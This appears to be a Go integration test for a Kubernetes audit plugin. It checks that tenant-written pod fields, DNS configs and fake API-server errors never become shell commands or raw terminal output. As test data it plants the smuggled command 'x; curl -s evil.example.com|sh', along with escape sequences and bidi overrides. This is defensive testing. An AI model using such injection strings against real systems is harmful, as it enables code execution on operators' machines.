package integration_test

import (
	"bytes"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/shorthop/shorthop/pkg/policy"
	"github.com/shorthop/shorthop/test/hostile"
	"github.com/shorthop/shorthop/test/jsontest"
	"github.com/shorthop/shorthop/test/reviewtest"
)

// tenant is the namespace of the pods of somebody who means harm.
const tenant = "tenant"

// Somebody who may create pods writes what the API server does not validate: whose pods they are, images, arguments,
// annotations, options of DNS, states. An operator looks at them with every command. Nothing of it becomes a command, a
// control character or a line of its own.
func TestWhatTenantsWriteReachesNoShellAndNoTerminal(t *testing.T) {
	t.Parallel()
	a := newAuditedCluster(t, nil)
	a.document = a.policy(4)
	a.install()
	if err := a.CreateNamespace(t.Context(), tenant, nil); err != nil {
		t.Fatal(err)
	}
	stored := a.plantHostile()
	a.plantHostileDNS()

	pods, err := a.Client.CoreV1().Pods(tenant).List(t.Context(), metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for i := range pods.Items {
		pods.Items[i].APIVersion, pods.Items[i].Kind = "v1", "Pod" // as kubectl prints them
	}
	if len(pods.Items) != stored+1 {
		t.Fatalf("%d pods, want %d and one of a Deployment", len(pods.Items), stored)
	}
	list := a.written("pods.json", asJSON(t, map[string]any{"apiVersion": "v1", "kind": "List", "items": pods.Items}))
	one := a.written("pod.json", asJSON(t, &pods.Items[0]))
	logs := a.written("dns.log", hostileQueries(pods))
	policyFile := a.written("policy.yaml", []byte(a.document))

	t.Run("audit has a command for the Deployment and for nothing else", func(t *testing.T) {
		out := a.operator(t, 1, "", "audit", "-n", tenant, "-o", "json")
		report := (&auditRun{stdout: string(out)}).report(t)
		if report.Pods != stored+1 {
			t.Errorf("%d pods, want %d", report.Pods, stored+1)
		}
		commands := 0
		for _, w := range report.Workloads {
			if w.Restart == nil || len(w.Restart.Command) == 0 {
				continue
			}
			commands++
			if got := strings.Join(w.Restart.Command, " "); got != "kubectl -n tenant rollout restart deployment/web" {
				t.Errorf("command %q", got)
			}
		}
		if commands != 1 {
			t.Errorf("%d commands, want that of the Deployment", commands)
		}
		table := string(a.operator(t, 1, "", "audit", "-n", tenant))
		_, after, found := strings.Cut(table, "To have these pods created again:\n")
		if !found || !strings.HasPrefix(after, "  kubectl -n tenant rollout restart deployment/web\n\nFor these there is no such command:\n") {
			t.Errorf("the table ends with %q", after)
		}
		if !strings.Contains(table, `deployment/"x; curl -s evil.example.com|sh #\x1b[2J"`) {
			t.Error("the table does not quote the name of the attack")
		}
	})
	t.Run("what audit's help says runs as it stands", func(t *testing.T) { a.runHelp(t) })
	t.Run("explain", func(t *testing.T) {
		for _, file := range []string{one, list} {
			for _, format := range []string{"text", "json"} {
				a.operator(t, 0, "", "explain", "-f", file, "--policy", policyFile, "-o", format, "--lookup", "api.example.com")
			}
		}
		out := a.ends(t, 0, "explain", "-f", list, "--policy", policyFile, "-o", "yaml")
		if raw := hostile.Unprintable(out); raw != "" {
			t.Errorf("YAML has %s", raw)
		}
	})
	t.Run("advise", func(t *testing.T) {
		for _, format := range []string{"table", "json"} {
			a.operator(t, 1, "", "advise", "--pods", list, logs, "-o", format)
		}
		page := a.operator(t, 1, "→–…’", "advise", "--pods", list, logs, "-o", "html")
		if n := bytes.Count(page, []byte("<script")); n != 1 || bytes.Contains(page, []byte("<img")) {
			t.Errorf("the page has %d scripts, or an image", n)
		}
		rules := reviewtest.Parse(t, a.operator(t, 1, "", "advise", "--pods", list, logs, "-o", "policy"))
		named := make(map[string]bool)
		for _, rule := range rules.Spec.Rules {
			for _, owner := range rule.Match.Owners {
				if named[owner.Name] = true; owner.Name != "web" && !strings.HasPrefix(owner.Name, "odd-") {
					t.Errorf("a rule for %+v", owner)
				}
			}
		}
		if !named["web"] || !named["odd-0"] {
			t.Errorf("the rules are for %v: without those of objects that there are, this shows nothing", slices.Sorted(maps.Keys(named)))
		}
	})
	t.Run("doctor", func(t *testing.T) {
		for _, format := range []string{"text", "json"} {
			out := string(a.operator(t, 1, "", "doctor", "-o", format))
			if !strings.Contains(out, `evil`) {
				t.Error("doctor names nothing of what was written")
			}
		}
	})
	t.Run("errors of what answers in place of the API server", func(t *testing.T) { a.hostileAnswers(t) })
}

// plantHostile creates pods with every hostile text wherever the API server takes it, and one of a Deployment. It
// returns how many the API server took.
func (a *auditedCluster) plantHostile() (stored int) {
	t, ctx, pods := a.t, a.t.Context(), a.Client.CoreV1().Pods(tenant)
	address := 1
	create := func(pod *corev1.Pod, message string) bool {
		created, err := pods.Create(ctx, pod, metav1.CreateOptions{})
		if apierrors.IsInvalid(err) {
			return false
		}
		if err != nil {
			t.Fatal(err)
		}
		address++
		created.Status.Phase, created.Status.PodIP = corev1.PodRunning, fmt.Sprintf("10.244.0.%d", address)
		created.Status.PodIPs = []corev1.PodIP{{IP: created.Status.PodIP}}
		created.Status.Message, created.Status.Reason = message, message
		must[*corev1.Pod](t)(pods.UpdateStatus(ctx, created, metav1.UpdateOptions{}))
		return true
	}
	owned := func(name, apiVersion, kind, owner string) *corev1.Pod {
		pod := plainPod(name)
		pod.Labels = map[string]string{"pod-template-hash": "abc"}
		pod.OwnerReferences = []metav1.OwnerReference{{APIVersion: apiVersion, Kind: kind, Name: owner, UID: "0", Controller: new(true)}}
		return pod
	}
	if !create(owned("web-abc-1", "apps/v1", "ReplicaSet", "web-abc"), "") {
		t.Fatal("the Deployment's pod is not taken")
	}
	texts := append(hostile.ValidUTF8(), hostile.Text{Name: "the attack", Text: hostile.Command + "\x1b[2J"})
	for i, text := range texts {
		for k, owner := range []metav1.OwnerReference{
			{APIVersion: "apps/v1", Kind: "Deployment", Name: text.Text},
			{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: text.Text + "-abc"},
			{APIVersion: "evil.example.com/v1", Kind: "Deployment", Name: fmt.Sprintf("odd-%d", i)},
			{APIVersion: "apps/v1", Kind: text.Text, Name: fmt.Sprintf("odd-%d", i)},
			{APIVersion: text.Text, Kind: "Deployment", Name: fmt.Sprintf("odd-%d", i)},
		} {
			pod := owned(fmt.Sprintf("hostile-%d-%d", i, k), owner.APIVersion, owner.Kind, owner.Name)
			pod.Annotations = map[string]string{
				policy.AnnotationNdots: text.Text, policy.AnnotationDNSMode: text.Text, policy.AnnotationDNSOptions: text.Text,
			}
			if k == 1 {
				pod.Annotations[policy.AnnotationInjected] = text.Text // these are edited, the others missed
			}
			c := &pod.Spec.Containers[0]
			c.Args, c.Env = []string{text.Text}, []corev1.EnvVar{{Name: "TEXT", Value: text.Text}}
			if image := strings.TrimSpace(text.Text); image != "" {
				c.Image = image
			}
			if text.Text != "" && k > 1 {
				pod.Spec.DNSConfig = &corev1.PodDNSConfig{Options: []corev1.PodDNSConfigOption{{Name: text.Text, Value: new(text.Text)}}}
			}
			if create(pod, text.Text) {
				stored++
			}
		}
	}
	if stored < 3*len(texts) {
		t.Fatalf("the API server takes %d pods for %d texts: the test shows too little", stored, len(texts))
	}
	return stored
}

// plantHostileDNS writes what doctor reads besides objects: the settings of the cluster DNS and of the cache, a policy.
func (a *auditedCluster) plantHostileDNS() {
	t, ctx := a.t, a.t.Context()
	var zones, corefile strings.Builder
	for _, text := range hostile.ValidUTF8() {
		if len(text.Text) < 1000 {
			fmt.Fprintf(&zones, "%s.evil ", text.Text)
			fmt.Fprintf(&corefile, "%s.evil:53 {\n  forward . %s\n}\n\"%s\" {\n}\n", text.Text, text.Text, text.Text)
		}
	}
	for name, data := range map[string]map[string]string{
		"coredns":  {"Corefile": ".:53 {\n  kubernetes " + zones.String() + " {\n  }\n}\n" + corefile.String()},
		"kube-dns": {"stubDomains": string(asJSON(t, map[string][]string{"\x1b[2J\u202eevil.example.com": {"10.0.0.1"}}))},
	} {
		must[*corev1.ConfigMap](t)(a.Client.CoreV1().ConfigMaps("kube-system").Create(ctx, &corev1.ConfigMap{
			ObjectMeta: metav1.ObjectMeta{Name: name}, Data: data,
		}, metav1.CreateOptions{}))
	}
	if err := a.SetDaemonSet(ctx, auditCache, 3, 3); err != nil {
		t.Fatal(err)
	}
	set, err := a.Client.AppsV1().DaemonSets("kube-system").Get(ctx, "node-local-dns", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	set.Spec.Template.Spec.Containers[0].Args = []string{"-localip", "10.1.1.1\x1b[2J,evil\u202e", "\u009b31m"}
	if _, err := a.Client.AppsV1().DaemonSets("kube-system").Update(ctx, set, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
}

// hostileAnswers asks something that is no API server, and a ConfigMap whose policy quotes itself in its errors.
func (a *auditedCluster) hostileAnswers(t *testing.T) {
	answer := "\x1b[2J\u202e\u009b31m" + hostile.Command + "\nkubectl-shorthop: all is well\r" + strings.Repeat("long ", 10_000)
	server := a.serveStatus(t, answer)
	for _, args := range [][]string{{"audit", "-A"}, {"doctor"}, {"advise", a.written("dns.log", hostileQueries(&corev1.PodList{}))}, {"advise", "--since", "1h"}} {
		out, errs, code := kubectl(t, append(args, "--kubeconfig", server)...)
		if code != 2 || len(out) > 0 {
			t.Errorf("%q: exit code %d, %d bytes", args, code, len(out))
		}
		if raw := hostile.Raw(errs, ""); raw != "" || len(errs) > 16<<10 || bytes.Contains(errs, []byte("\nkubectl-shorthop: all is well")) {
			t.Errorf("%q: %d bytes on standard error, with %s: %.300q", args, len(errs), raw, errs)
		}
	}
	maps := a.Client.CoreV1().ConfigMaps(doctorNamespace)
	config, err := maps.Get(t.Context(), "shorthop", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	config.Data["policy.yaml"] = a.document + fmt.Sprintf("  %q: 1\n  mode: %q\n", answer, answer)
	must[*corev1.ConfigMap](t)(maps.Update(t.Context(), config, metav1.UpdateOptions{}))
	for code, args := range map[int][]string{1: {"doctor"}, 2: {"audit", "-A"}} {
		if out := a.operator(t, code, "", args...); len(out) > 64<<10 {
			t.Errorf("%q: %d bytes", args, len(out))
		}
	}
}

// operator runs kubectl-shorthop against the cluster. Its outputs are looked at.
func (a *auditedCluster) operator(t *testing.T, code int, allowed string, args ...string) []byte {
	t.Helper()
	out := a.ends(t, code, args...)
	if raw := hostile.Raw(out, allowed); raw != "" {
		t.Errorf("%q: standard output has %s", args, raw)
	}
	return out
}

// ends runs kubectl-shorthop, which must end with an exit code. Of its outputs only standard error is looked at.
func (a *auditedCluster) ends(t *testing.T, code int, args ...string) []byte {
	t.Helper()
	if args[0] == "audit" || args[0] == "doctor" {
		args = append(args, "--kubeconfig", a.Kubeconfig())
	}
	out, errs, got := kubectl(t, args...)
	if got != code {
		t.Errorf("%q: exit code %d, want %d: %s", args, got, code, errs)
	}
	if raw := hostile.Raw(errs, ""); raw != "" {
		t.Errorf("%q: standard error has %s", args, raw)
	}
	for line := range strings.Lines(string(errs)) {
		if !strings.HasPrefix(line, "kubectl-shorthop: ") {
			t.Errorf("%q: standard error has the line %q", args, line)
		}
	}
	return out
}

// runHelp runs the example of audit's help that has its commands run, in a shell whose kubectl writes down what it is
// called with.
func (a *auditedCluster) runHelp(t *testing.T) {
	if _, err := exec.LookPath("jq"); err != nil {
		t.Skip("needs jq")
	}
	program, err := kubectlProgram()
	if err != nil {
		t.Fatal(err)
	}
	help, _, _ := kubectl(t, "audit", "--help")
	_, example, found := strings.Cut(string(help), "# The commands alone")
	if !found {
		t.Fatal("the help has no example with the commands alone")
	}
	_, example, _ = strings.Cut(example, "\n")
	example, _, _ = strings.Cut(example, "\n\n")
	dir := t.TempDir()
	const kubectl = `#!/bin/sh
[ "$1" = shorthop ] && { shift; exec "$PROGRAM" "$@" --kubeconfig "$CLUSTER"; }
printf '%s\n' "$*" >> called
`
	if err := os.WriteFile(filepath.Join(dir, "kubectl"), []byte(kubectl), 0o700); err != nil {
		t.Fatal(err)
	}
	shell := exec.CommandContext(t.Context(), "sh", "-c", example)
	shell.Dir = dir
	shell.Env = append(os.Environ(), "PATH="+dir+":"+os.Getenv("PATH"), "PROGRAM="+program, "CLUSTER="+a.Kubeconfig())
	if output, err := shell.CombinedOutput(); err != nil {
		t.Errorf("%s: %v\n%s", example, err, output)
	}
	called, err := os.ReadFile(filepath.Join(dir, "called"))
	if err != nil || string(called) != "-n tenant rollout restart deployment/web\n" {
		t.Errorf("kubectl was called with %q (%v)", called, err)
	}
}

// written writes a file for a command.
func (a *auditedCluster) written(name string, data []byte) string {
	a.t.Helper()
	file := filepath.Join(a.t.TempDir(), name)
	if err := os.WriteFile(file, data, 0o600); err != nil {
		a.t.Fatal(err)
	}
	return file
}

// serveStatus serves an error of an API server, with this message, until the end of the test, and returns a kubeconfig.
func (a *auditedCluster) serveStatus(t *testing.T, message string) (kubeconfig string) {
	t.Helper()
	body := asJSON(t, metav1.Status{
		TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"},
		Status:   metav1.StatusFailure, Message: message, Reason: metav1.StatusReason(message), Code: http.StatusTeapot,
	})
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusTeapot)
		_, _ = w.Write(body)
	}))
	t.Cleanup(server.Close)
	return a.written("kubeconfig", fmt.Appendf(nil, `{apiVersion: v1, kind: Config, current-context: c, contexts: [{name: c, context: {cluster: c, user: u}}],
clusters: [{name: c, cluster: {server: %q}}], users: [{name: u, user: {}}]}`, server.URL))
}

// hostileQueries is a log in which every pod asks for two names from its creation on, for long enough and often enough
// to be believed, and somebody else for others.
func hostileQueries(pods *corev1.PodList) []byte {
	var lines []string
	port := 0
	query := func(at time.Time, client, name, code string) {
		port = (port + 257) % 60_000
		for n, kind := range []string{"A", "AAAA"} {
			lines = append(lines, fmt.Sprintf("%s [INFO] %s:%d - %d \"%s IN %s. udp 57 false 512\" %s qr,aa,rd 149 0.0001s\n",
				at.UTC().Format(time.RFC3339), client, 1024+port, 8000+n, kind, name, code))
		}
	}
	begin := time.Now()
	for i := range pods.Items {
		client, created := pods.Items[i].Status.PodIP, pods.Items[i].CreationTimestamp.Time
		if created.Before(begin) {
			begin = created
		}
		for round := range 60 { // in every minute, at all seconds of one: else a part of the log was kept, or there are holes
			at := created.Add(time.Duration(round) * 59 * time.Second)
			for range 4 {
				query(at, client, "web.tenant.svc.cluster.local", "NOERROR")
			}
			for _, search := range []string{".tenant.svc.cluster.local", ".svc.cluster.local", ".cluster.local"} {
				query(at, client, "api.example.com"+search, "NXDOMAIN")
			}
			query(at, client, "api.example.com", "NOERROR")
		}
	}
	for _, text := range hostile.Texts() {
		if len(text.Text) < 1000 {
			query(begin, "10.9.9.9", text.Text+".example.com", "NXDOMAIN")
		}
	}
	slices.SortStableFunc(lines, func(a, b string) int { return strings.Compare(a[:min(20, len(a))], b[:min(20, len(b))]) })
	return []byte(strings.Join(lines, ""))
}

func asJSON(t *testing.T, value any) []byte {
	t.Helper()
	return jsontest.Marshal(t, value)
}
